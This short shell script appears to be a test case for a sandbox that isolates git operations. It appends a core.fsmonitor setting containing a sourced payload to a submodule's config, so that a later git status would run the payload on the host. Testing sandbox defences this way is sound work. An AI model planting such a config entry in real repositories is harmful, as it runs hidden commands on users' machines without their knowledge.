#!/bin/sh
# Writes the configuration of a submodule.
# Matters: it lies below .git/modules, and git status asks submodules too.
# Held by: a directory of the sandbox's own at .git, into which only what is harmless is bound.
# judge: host
# harm: guarded owned
. "$HOSTILE_STAGE/workspace/attack/hostile.sh"
printf '[core]\n\tfsmonitor = "%s; false"\n' "$payload" >>.git/modules/sub/config
